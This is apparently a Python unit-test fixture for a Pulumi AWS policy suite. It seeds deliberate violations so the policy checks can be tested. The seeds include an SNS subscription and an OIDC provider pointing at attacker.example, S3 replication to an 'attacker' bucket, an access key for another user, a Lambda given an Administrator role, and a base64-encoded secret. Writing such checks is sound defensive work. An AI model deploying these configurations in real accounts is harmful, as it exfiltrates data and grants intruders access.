"""Seeded violations by additional resources, which the program does not make."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any

import pulumi
import pulumi_aws as aws

from tests.unit.policy.seeding import Seed, at, registered, tags

CN = "111122223333"


def extra(made: Callable[[str, pulumi.ResourceOptions], object], name: str) -> dict[str, Any]:
    """Return the elements of a seed that adds one resource."""
    full = f"dth-dual-cn-seeded-{name}"
    return {"at": full, "extra": lambda seen: registered(made(full, at(seen))), "engine": False}


def trust() -> str:
    service = {"Service": "ecs-tasks.amazonaws.com"}
    condition = {"StringEquals": {"aws:SourceAccount": CN}}
    one = {"Effect": "Allow", "Principal": service, "Action": "sts:AssumeRole", "Condition": condition}
    return json.dumps({"Version": "2012-10-17", "Statement": [one]})


SEEDS = (
    Seed(
        "key-of-another-user", "nothing-besides", **extra(lambda n, o: aws.iam.AccessKey(n, user="ceo", opts=o), "key")
    ),
    Seed(
        "subscription-of-a-stranger",
        "nothing-besides",
        **extra(
            lambda n, o: aws.sns.TopicSubscription(
                n, topic="arn", protocol="https", endpoint="https://attacker.example/", opts=o
            ),
            "subscription",
        ),
    ),
    Seed(
        "unused-role",
        "nothing-besides",
        **extra(
            lambda n, o: aws.iam.Role(n, name=n, assume_role_policy=trust(), tags=tags(), opts=o),
            "role",
        ),
    ),
    Seed(
        "function",
        "known-types",
        **extra(
            lambda n, o: aws.lambda_.Function(
                n, name=n, role=f"arn:aws-cn:iam::{CN}:role/Administrator", tags=tags(), opts=o
            ),
            "function",
        ),
    ),
    Seed(
        "identity-provider",
        "nothing-besides",
        **extra(
            lambda n, o: aws.iam.OpenIdConnectProvider(
                n, url="https://attacker.example", client_id_lists=["x"], tags=tags(), opts=o
            ),
            "identities",
        ),
    ),
    Seed(
        "artifacts-replicated",
        "known-types",
        **extra(
            lambda n, o: aws.s3.BucketReplicationConfig(
                n,
                bucket=f"dth-dual-cn-artifacts-{CN}",
                role="r",
                rules=[{"status": "Enabled", "destination": {"bucket": "arn:aws-cn:s3:::attacker"}}],
                opts=o,
            ),
            "replication",
        ),
    ),
    Seed(
        "secret-in-base64",
        "known-types",
        **extra(
            lambda n, o: aws.ssm.Parameter(
                n,
                name=n,
                type="String",
                value=base64.b64encode(b"the-secret-access-key").decode(),
                tags=tags(),
                opts=o,
            ),
            "encoded",
        ),
    ),
)
